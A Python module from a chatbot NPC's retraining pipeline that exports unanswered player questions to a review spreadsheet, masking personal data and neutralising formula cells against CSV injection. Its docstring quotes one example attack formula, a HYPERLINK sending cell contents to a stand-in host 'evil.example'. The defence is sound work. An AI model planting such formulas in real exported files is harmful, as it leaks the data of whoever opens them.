"""From players back to the model: the questions players asked the NPC that the training data does
not hold, as `retrain-candidates.csv` in Chatbot_data's columns (Q, A, label) plus `reviewed`. Questions
the NPC was unsure of (it said an unsure line) come with the answer the model withheld: those most need a
person's answer.

A person reviews the file (fixes the answer, sets `reviewed` to yes); `npm run train -- --extra-data
retrain-candidates.csv` then trains on the reviewed rows only. Personal data never leaves the job:
e-mail addresses, phone numbers and long digit runs are masked before anything is written
(personal_data.py).

Reviewers open the file in a spreadsheet, which runs a cell starting with `=`, `+`, `-`, `@`, tab or
carriage return as a formula (`=HYPERLINK("http://evil.example/?d="&A1,"확인")`). Such a cell, and one
that already starts with `'` before one of those, is written with a `'` in front (OWASP's CSV injection
advice); the training side (npc/training/kobot_train/data.py load_pairs) takes that one `'` off again.
"""
import csv
import os
import re
from pathlib import Path

from .personal_data import mask_personal_data

# Also a cell that starts with quotes before a formula character, so that the reader's one `'` less is exact.
FORMULA_START = re.compile(r"'*[=+\-@\t\r]")
# A cell spreadsheet_safe quoted: the `'` it put in front, then what made it look like a formula.
QUOTED = re.compile(r"'(?='*[=+\-@\t\r])")
COLUMNS = ["Q", "A", "label", "reviewed"]


def normalised(text: str) -> str:
    """The form questions are compared in: lower case, no spaces, no punctuation."""
    return re.sub(r"[\s\W_]+", "", text.lower())


def known_questions(path: Path) -> set[str]:
    with open(path, encoding="utf-8", newline="") as handle:
        return {normalised(row["Q"]) for row in csv.DictReader(handle)}


def candidates(outcomes: list[dict], training_csv: Path) -> list[tuple[str, str]]:
    """(Q, A) for answered questions (figures' `outcomes`: no other fallbacks) and unsure ones (A: the withheld
    answer), masked, not in the training data, asked by at least one player nobody reported, once each (the answer
    given first), sorted by question."""
    known = known_questions(training_csv)
    first: dict[str, tuple[int, str, str]] = {}
    for row in outcomes:
        if row["why"] not in (None, "short_answer", "unsure"):
            continue  # a timeout or a refusal is not an answer to learn
        if row.get("askedByUnreported", 1) == 0:
            continue  # asked only by players others reported: a troll's questions are no data to learn from
        question = mask_personal_data(row["question"] or "")
        key = normalised(question)
        if not key or key in known:
            continue
        said = row["first"]["withheld"] if row["why"] == "unsure" else row["first"]["answer"]
        ts, answer = row["first"]["ts"], mask_personal_data((said or "").strip())
        if key not in first or ts < first[key][0]:
            first[key] = (ts, question, answer)
    return sorted((q, a) for _, q, a in first.values())


def spreadsheet_safe(cell: str) -> str:
    """`cell` as a spreadsheet shows it as text, never runs it as a formula."""
    return "'" + cell if FORMULA_START.match(cell) else cell


def write_candidates(rows: list[tuple[str, str]], path: Path) -> int:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(COLUMNS)
        writer.writerows([_unreviewed(q, a) for q, a in rows])
    return len(rows)


def refresh_candidates(rows: list[tuple[str, str]], path: Path) -> tuple[int, int]:
    """Rewrites the file at `path` for `rows`, the candidates the archive gives now (after a player's erasure: without
    their questions), keeping a reviewer's work: a row whose question is still a candidate stays as the reviewer left
    it (answer, label, `reviewed`, cells as saved); a row whose question the archive no longer holds goes; a question
    new to the archive (records that came late) is added unreviewed. Rows are matched by their question as written
    (compared as `normalised`). Returns (rows written, rows dropped)."""
    with open(path, encoding="utf-8-sig", newline="") as handle:  # a spreadsheet's "CSV UTF-8" starts with a BOM
        kept = {}
        for row in csv.DictReader(handle):
            kept.setdefault(normalised(QUOTED.sub("", row.get("Q") or "", count=1)), row)
    now = {normalised(q): (q, a) for q, a in rows}
    written = path.with_name(path.name + ".tmp")  # then renamed over it: stopped midway, the reviewed file is whole
    with open(written, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(COLUMNS)
        for key, (q, a) in sorted(now.items(), key=lambda item: item[1]):
            row = kept.get(key)
            writer.writerow([row.get(column) or "" for column in COLUMNS] if row else _unreviewed(q, a))
    os.replace(written, path)
    return len(now), sum(1 for key in kept if key not in now)


def _unreviewed(question: str, answer: str) -> tuple[str, str, int, str]:
    """A candidate's row in COLUMNS' order, as it is first written: not reviewed yet."""
    return spreadsheet_safe(question), spreadsheet_safe(answer), 0, "no"
